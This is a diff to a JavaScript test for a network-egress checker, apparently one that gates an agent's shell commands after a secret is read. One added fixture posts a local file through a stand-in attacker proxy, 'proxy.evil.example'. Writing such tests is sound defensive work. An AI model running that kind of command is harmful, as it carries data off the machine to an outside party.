@@ -125,6 +125,17 @@ test('tainted-network-egress: a secret read taints the session; egress then need
   assert.equal(egress({ bash: 'git push origin feature' }), undefined, 'origin is not egress');
   assert.equal(egress({ bash: 'git push upstream feature' }, { knownRemotes: ['upstream'] }), undefined);
   assert.equal(egress({ bash: 'curl https://api.example.com/status' }), undefined, 'a plain GET sends no data');
+  assert.equal(
+    egress({ bash: 'curl -X POST -d @/tmp/req.json http://localhost:3000/api/items' }),
+    undefined,
+    'a request to this machine carries nothing off it',
+  );
+  assert.equal(
+    egress({ bash: 'curl -x http://proxy.evil.example:8080 -d @/tmp/req.json http://localhost:3000/api' })?.verdict,
+    'ask',
+    'unless a proxy elsewhere carries it',
+  );
+  assert.equal(egress({ bash: 'curl -d @/tmp/req.json "$API"' })?.verdict, 'ask', 'a URL not known is not local');
   assert.equal(egress({ bash: 'npm test' }), undefined);
 });
 
